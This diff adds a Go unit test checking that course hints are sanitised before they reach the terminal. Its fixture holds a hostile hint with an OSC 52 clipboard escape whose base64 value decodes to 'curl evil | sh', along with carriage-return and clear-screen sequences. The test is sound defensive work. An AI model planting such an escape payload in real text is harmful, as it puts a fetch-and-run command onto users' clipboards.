@@ -81,3 +81,17 @@ func TestWriteList(t *testing.T) {
 		}
 	}
 }
+
+// A course's hint reaches the terminal made safe (lessons hint, watch's
+// h): a hostile course's OSC 52 (the clipboard) or a CR drawn over the
+// line before never does.
+func TestHintSafe(t *testing.T) {
+	c := tiny(t)
+	x, _ := c.Exercise("pipe")
+	x.Hints = []string{"Look\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07 at\rthe stream\x1b[2J."}
+	p, _ := progress.Load(c)
+	text, err := Hint(c, p, x)
+	if err != nil || strings.ContainsAny(text, "\x1b\r\a") || !strings.Contains(text, "  Look at\n  the stream.") {
+		t.Errorf("hint: %q, %v", text, err)
+	}
+}
